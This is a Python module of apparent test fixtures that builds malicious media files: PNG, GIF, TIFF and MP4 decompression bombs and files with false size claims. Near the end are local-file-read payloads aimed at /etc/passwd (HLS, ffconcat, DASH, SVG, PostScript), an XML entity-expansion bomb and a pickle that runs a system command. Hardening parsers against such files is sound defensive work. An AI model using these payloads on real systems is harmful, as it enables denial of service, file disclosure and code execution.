"""Pictures and videos made to harm whoever opens them: bombs, lies, cuts and files that name other files."""

from __future__ import annotations

import io
import struct
import zlib
from functools import cache

import numpy as np
import PIL.Image

SEED = 7


@cache
def noise(kind: str = "PNG", size: tuple[int, int] = (64, 64)) -> bytes:
    """A small honest picture that does not compress."""
    pixels = np.random.default_rng(SEED).integers(0, 256, (size[1], size[0], 3), dtype=np.uint8)
    file = io.BytesIO()
    PIL.Image.fromarray(pixels).save(file, kind)
    return file.getvalue()


def chunk(kind: bytes, body: bytes) -> bytes:
    """A chunk of a PNG, with its checksum."""
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def png(width: int, height: int, pixels: bytes = b"", *more: bytes) -> bytes:
    """A PNG that claims a size in RGB, and holds these pixels compressed."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"IDAT", zlib.compress(pixels, 9))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + b"".join(more) + body + chunk(b"IEND", b"")


@cache
def png_bomb() -> bytes:
    """900 million pixels in a megabyte: all black, and whole."""
    press = zlib.compressobj(9)
    row = press.compress(bytes(30_000 * 3 + 1) * 64)
    rows = [row, *(press.compress(bytes(30_000 * 3 + 1) * 64) for _ in range(7))]
    head = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 2, 0, 0, 0)
    body = chunk(b"IDAT", b"".join(rows) + press.flush())
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + chunk(b"IEND", b"")


@cache
def png_text_bomb() -> bytes:
    """A comment of 200 MB in a chunk of 200 KB."""
    text = b"comment\0\0" + zlib.compress(bytes(200 << 20), 9)
    return png(8, 8, bytes(8 * 25), chunk(b"zTXt", text))


def png_profile_bomb() -> bytes:
    """A colour profile of 200 MB in a chunk of 200 KB."""
    return png(8, 8, bytes(8 * 25), chunk(b"iCCP", b"p\0\0" + zlib.compress(bytes(200 << 20), 9)))


def png_flood() -> bytes:
    """An animated PNG that claims two thousand million frames."""
    moving = chunk(b"acTL", struct.pack(">II", 2**31 - 1, 0))
    frame = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 64, 64, 0, 0, 1, 10, 0, 0))
    return png(64, 64, bytes(64 * 193), moving, frame)


@cache
def gif_flood(frames: int = 4_000, side: int = 1_000) -> bytes:
    """An animation of more pixels than are decoded, in a few bytes a frame."""
    head = b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    frame = (
        b"\x21\xf9\x04\0\x01\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"
    )
    return head + frame * frames + b"\x3b"


def gif_grows() -> bytes:
    """An animation of 8 × 8 whose third frame is one pixel, 9,000 from the corner both ways."""
    head = b"GIF89a" + struct.pack("<HHBBB", 8, 8, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    near, far = (
        b"\x2c" + struct.pack("<HHHHB", at, at, 1, 1, 0) + b"\x02\x02\x44\x01\0" for at in (0, 9_000)
    )
    return head + near + near + far + b"\x3b"


def gif_wide() -> bytes:
    """A screen of 65,535 × 65,535 around one pixel."""
    head = b"GIF89a" + struct.pack("<HHBBB", 65_535, 65_535, 0x80, 0, 0) + b"\0\0\0\xff\xff\xff"
    return head + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0\x3b"


def jpeg_wide() -> bytes:
    """A JPEG whose header says 65,500 × 65,500."""
    raw = noise("JPEG")
    at = raw.index(b"\xff\xc0")
    return raw[: at + 5] + struct.pack(">HH", 65_500, 65_500) + raw[at + 9 :]


def webp_lie() -> bytes:
    """A WebP whose frame claims 16,383 × 16,383."""
    frame = b"\x9d\x01\x2a" + struct.pack("<HH", 16_383, 16_383) + b"\0" * 40
    body = b"VP8 " + struct.pack("<I", len(frame) + 3) + b"\x10\0\0" + frame
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


def tiff_of(*entries: tuple[int, int, int, int], following: int = 0) -> bytes:
    """A TIFF of one directory: (tag, type, count, value) each."""
    table = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0\x08\0\0\0" + struct.pack("<H", len(entries)) + table + struct.pack("<I", following)


def tiff_wide() -> bytes:
    """A TIFF of 2³¹ × 2³¹ pixels."""
    size = [(256, 4, 1, 2**31), (257, 4, 1, 2**31)]
    return tiff_of(*size, (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8), (279, 4, 1, 8))


def tiff_far() -> bytes:
    """A TIFF whose strips lie behind the end of the file, four thousand million of them."""
    size = [(256, 4, 1, 64), (257, 4, 1, 64), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1)]
    return tiff_of(*size, (273, 4, 2**32 - 1, 2**32 - 8), (279, 4, 2**32 - 1, 2**32 - 8))


def avif_cut() -> bytes:
    """The beginning of an AVIF."""
    return noise("AVIF")[:200]


def box(kind: bytes, *parts: bytes) -> bytes:
    """A box of an MP4."""
    body = b"".join(parts)
    return struct.pack(">I", len(body) + 8) + kind + body


@cache
def film(codec: str = "mpeg4", form: str = "mp4", pause: int = 1) -> bytes:
    """A small honest film of eight frames, each shown for `pause` quarters of a second."""
    import av

    file = io.BytesIO()
    random = np.random.default_rng(SEED)
    with av.open(file, "w", format=form) as container:
        stream = container.add_stream(codec, rate=4)
        assert isinstance(stream, av.VideoStream)
        stream.width, stream.height = 64, 48
        known = stream.codec_context.codec.video_formats
        stream.pix_fmt = known[0].name if known else "yuv420p"
        for number in range(8):
            frame = av.VideoFrame.from_ndarray(random.integers(0, 256, (48, 64, 3), dtype=np.uint8), "rgb24")
            frame.pts = number * pause
            container.mux(stream.encode(frame))
        container.mux(stream.encode())
    return file.getvalue()


def film_lie() -> bytes:
    """A film of eight frames that claims to last for a day."""
    return film(pause=12_345)


def film_samples() -> bytes:
    """A film whose table speaks of four thousand million frames."""
    raw = film()
    at = raw.index(b"stsz") + 8
    return raw[:at] + struct.pack(">II", 0, 2**32 - 1) + raw[at + 8 :]


@cache
def film_streams(count: int = 3_000) -> bytes:
    """A film of thousands of streams, every one with its header and none with frames."""
    raw = film()
    top = _boxes(raw)
    inside = _boxes(top[b"moov"][8:])
    many = box(b"moov", inside[b"mvhd"], inside[b"trak"] * count)
    return top[b"ftyp"] + many + top[b"mdat"]


def film_empty() -> bytes:
    """A film with a stream of pictures, and no picture in it."""
    raw = film()
    at = raw.index(b"stsz") + 8
    return raw[:at] + struct.pack(">II", 0, 0) + raw[at + 8 :]


def film_wide() -> bytes:
    """A film whose frames claim 65,000 × 65,000 pixels."""
    raw = bytearray(film("rawvideo", "avi"))
    place = raw.index(b"strf") + 12
    raw[place : place + 8] = struct.pack("<II", 65_000, 65_000)
    return bytes(raw)


@cache
def sound() -> bytes:
    """A second of silence in an MP4."""
    import av

    file = io.BytesIO()
    with av.open(file, "w", format="mp4") as container:
        stream = container.add_stream("aac", rate=8000)
        for _ in range(8):
            frame = av.AudioFrame.from_ndarray(np.zeros((1, 1024), np.float32), format="fltp", layout="mono")
            frame.sample_rate = 8000
            container.mux(stream.encode(frame))
        container.mux(stream.encode())
    return file.getvalue()


def _boxes(raw: bytes) -> dict[bytes, bytes]:
    found: dict[bytes, bytes] = {}
    at = 0
    while at + 8 <= len(raw):
        size = int.from_bytes(raw[at : at + 4], "big")
        found[raw[at + 4 : at + 8]] = raw[at : at + size]
        at += size
    return found


PLAYLIST = b"#EXTM3U\n#EXT-X-TARGETDURATION:10\n#EXTINF:10,\nfile:///etc/passwd\n#EXT-X-ENDLIST\n"
CONCAT = b"ffconcat version 1.0\nfile /etc/passwd\n"
DASH = (
    b'<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011"><BaseURL>file:///etc/</BaseURL></MPD>'
)
SDP = b"v=0\no=- 0 0 IN IP4 127.0.0.1\nc=IN IP4 127.0.0.1\nm=video 5004 RTP/AVP 96\na=rtpmap:96 H264/90000\n"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><image href="file:///etc/passwd"/></svg>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    b'<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><svg xmlns="http://www.w3.org/2000/svg">&c;</svg>'
)
SCRIPT = b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(/etc/passwd) (r) file\n"
ZIP = b"PK\x03\x04\x14\0\0\0\x08\0" + b"\0" * 40
PICKLE = (
    b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
)
